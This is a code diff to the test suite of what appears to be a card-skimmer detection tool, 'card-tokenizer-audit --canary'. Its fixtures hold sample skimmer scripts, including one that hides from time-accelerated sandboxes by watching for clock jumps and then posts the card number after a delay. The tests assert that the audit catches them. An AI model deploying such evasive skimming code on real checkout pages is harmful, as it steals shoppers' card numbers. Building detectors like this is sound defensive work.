@@ -97,14 +97,14 @@ ${onValidCard(`(number) => {
     stayMs: 1000,
   },
   'a clock that jumped': {
-    body: () => `let jumped = false;
+    body: (delayMs = 20_000) => `let jumped = false;
 let last = [Date.now(), document.timeline.currentTime];
 setInterval(() => {
   const now = [Date.now(), document.timeline.currentTime];
   if (Math.abs(now[0] - last[0] - (now[1] - last[1])) > 2000) jumped = true;
   last = now;
 }, 1000);
-${onValidCard(`(number) => setTimeout(() => { if (!jumped) fetch('/quiet', { method: 'POST', body: number }); }, 5000)`)}`,
+${onValidCard(`(number) => setTimeout(() => { if (!jumped) fetch('/quiet', { method: 'POST', body: number }); }, ${delayMs})`)}`,
     stayMs: 8000,
   },
   'a debugger': {
@@ -176,6 +176,7 @@ describe('card-tokenizer-audit --canary judges what the page does', () => {
     });
     expect(failures(run)).toEqual([]);
     expect(run.canary!.tokenizationRequest).toBeDefined();
+    expect(run.canary!.cardReads).toEqual([]);
   });
 
   it('catches the number in four parts, sent last group first', async () => {
@@ -187,6 +188,10 @@ describe('card-tokenizer-audit --canary judges what the page does', () => {
       sent,
     ).toBe(true);
     const run = await audited('the number in four parts');
+    expect(run.canary!.cardReads).toContainEqual({
+      what: expect.stringMatching(/^reads the value of <input autocomplete="cc-number"> in /),
+      script: '/skimmer.js',
+    });
     expect(failures(run).join('\n')).toMatch(
       /^card-triggered request: request GET http:\/\/127\.0\.0\.1:\d+\/metrics\?name&part&value: only with a valid card: 4×.*sent by .*\/skimmer\.js/m,
     );
@@ -247,10 +252,12 @@ describe('card-tokenizer-audit --canary judges what the page does', () => {
 
   it('catches a clock that jumped with --stay in real time; the forwarded stay stays a tell', async () => {
     const card = issuerCard();
-    expect(await shopperSends('a clock that jumped', card)).toContain(card);
-    expect(await shopperSends('a clock that jumped', card, true)).not.toContain(card);
+    // The same skimmer, 5 s in place of 20 after the number: a shopper's real wait, kept short.
+    const quick = SKIMMERS['a clock that jumped'].body(5000);
+    expect(await shopperSends('a clock that jumped', card, false, quick)).toContain(card);
+    expect(await shopperSends('a clock that jumped', card, true, quick)).not.toContain(card);
     expect(failures(await audited('a clock that jumped'))).toEqual([]);
-    const run = await audited('a clock that jumped', { real: true, ms: 7000 });
+    const run = await audited('a clock that jumped', { real: true, ms: 25_000 });
     expect(failures(run).join('\n')).toMatch(
       /\/quiet: the canary's card left the element: card number, plain/,
     );
